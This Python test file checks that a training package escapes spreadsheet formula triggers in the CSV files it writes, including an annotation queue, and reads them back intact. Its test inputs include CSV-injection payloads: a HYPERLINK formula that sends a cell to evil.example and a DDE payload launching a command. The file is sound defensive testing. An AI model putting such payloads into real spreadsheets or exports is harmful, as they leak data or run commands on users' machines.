"""D5: text cells that a spreadsheet would run as formulas are escaped in every CSV the package writes (the human
annotation queue, `aepo select`/`generate` CSV outputs), and read back equal to the original."""

from __future__ import annotations

import csv

import pytest

from aepo_trainer._utils.csv_safety import FORMULA_TRIGGERS, escape_cell, unescape_cell
from aepo_trainer.annotation import AnnotationRequest, AnnotationsPending, HumanQueueAnnotator
from aepo_trainer.cli.io import read_rows, write_rows

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "''=double",
    "'=quoted formula",
    "\uff1d1+1",  # full-width equals sign: some spreadsheets evaluate it too
    "plain text",
    "",
    "a = b, -c",
]


@pytest.mark.parametrize("text", NASTY)
def test_escape_round_trip(text):
    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    assert not cell.startswith(FORMULA_TRIGGERS)  # never evaluated by a spreadsheet
    if not text.startswith((*FORMULA_TRIGGERS, "'")):
        assert cell == text  # ordinary text is written as it is


def test_numbers_are_not_escaped():
    assert escape_cell(-1.5) == -1.5 and escape_cell(3) == 3 and unescape_cell("-1.5") == "-1.5"


def test_csv_output_round_trip(tmp_path):
    rows = [
        {"prompt": text, "chosen": f"ok {i}", "rejected": text, "selected": ["=x", "-y"]}
        for i, text in enumerate(NASTY)
    ]
    path = str(tmp_path / "pairs.csv")
    write_rows(rows, path)
    with open(path, newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    assert all(not cell.startswith(FORMULA_TRIGGERS) for row in raw for cell in row.values())
    assert raw[0]["prompt"].startswith("'=HYPERLINK")
    assert read_rows(path) == rows  # the value read back equals the original


def test_human_csv_queue_is_escaped_and_labels_read_back(tmp_path):
    queue = tmp_path / "queue.csv"
    annotator = HumanQueueAnnotator(queue)
    request = AnnotationRequest("=1+1 is?", ["=2", "@two", "-2 (negative)"], indices=[0, 1, 2])
    with pytest.raises(AnnotationsPending):
        annotator.score([request])
    with open(queue, newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    assert [r["completion"] for r in raw] == ["'=2", "'@two", "'-2 (negative)"] and raw[0]["prompt"] == "'=1+1 is?"
    pending = annotator.pending_items()
    assert [p["completion"] for p in pending] == ["=2", "@two", "-2 (negative)"]
    assert {p["prompt"] for p in pending} == {"=1+1 is?"}
    with open(tmp_path / "queue.labels.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "score"])
        for score, item in zip(["-1", "0.5", "2"], pending):
            writer.writerow([item["id"], score])
    assert annotator.score([request]) == [[-1.0, 0.5, 2.0]]  # a negative score typed by a labeller still reads
